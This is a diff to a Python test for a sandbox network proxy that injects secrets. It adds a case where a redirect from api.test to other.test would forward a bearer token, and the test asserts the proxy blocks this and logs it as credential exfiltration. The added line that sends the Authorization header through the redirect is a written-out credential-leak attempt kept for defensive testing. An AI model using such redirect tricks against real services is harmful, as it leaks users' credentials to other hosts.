@@ -88,6 +88,9 @@ print("https-method", call(f"https://api.test:{TLS}/repos/org/x", "DELETE"))
 print("https-path", call(f"https://api.test:{TLS}/user/keys"))
 print("http-path", call(f"http://other.test:{PLAIN}/admin"))
 print("http-ok", call(f"http://other.test:{PLAIN}/ok/fine"))
+# api.test redirects to other.test; urllib follows with the same Authorization header
+print("redirect", call(f"https://api.test:{TLS}/repos/org/r?to=http://other.test:{PLAIN}/ok/r",
+                       Authorization="Bearer " + token))
 # (a part of the secret, reversed: the child never holds the whole of it, which the host
 # then seeks in its memory)
 secret = sys.argv[1].encode()[::-1]
@@ -176,15 +179,17 @@ def test_the_server_gets_the_secret_and_the_sandbox_never_holds_it(ws, pki, tls_
     lines = dict(line.split(" ", 1) for line in r.stdout.decode().splitlines())
     assert lines == {"placeholder": "True", "injected": "200", "exfil": "403",
                      "https-method": "403", "https-path": "403", "http-path": "403",
-                     "http-ok": "200", "found": "[]", "ca-dir": "['bundle.pem', 'ca.pem']",
+                     "http-ok": "200", "redirect": "403", "found": "[]", "ca-dir": "['bundle.pem', 'ca.pem']",
                      "trust": "True"}, r.stderr
     assert tls_server.seen[0].headers["Authorization"] == f"Bearer {secret}"
-    assert [s.path for s in tls_server.seen] == ["/repos/org/x"]
+    assert [s.path for s in tls_server.seen] == [
+        "/repos/org/x", f"/repos/org/r?to=http://other.test:{plain_server.port}/ok/r"]
     assert [s.path for s in plain_server.seen] == ["/ok/fine", "/ok/done"]
     reasons = [(e["host"], e["reason"]) for e in r.network_log]
     assert reasons == [("other.test", "credential_exfiltration"),
                        ("api.test", "method_not_allowed"), ("api.test", "path_not_allowed"),
-                       ("other.test", "path_not_allowed")]
+                       ("other.test", "path_not_allowed"),
+                       ("other.test", "credential_exfiltration")]
     assert secret not in repr(r)  # (the result: log, violations, output)
     assert any(v.kind == "network.denied" and "credential_exfiltration" in v.detail
                for v in r.violations)
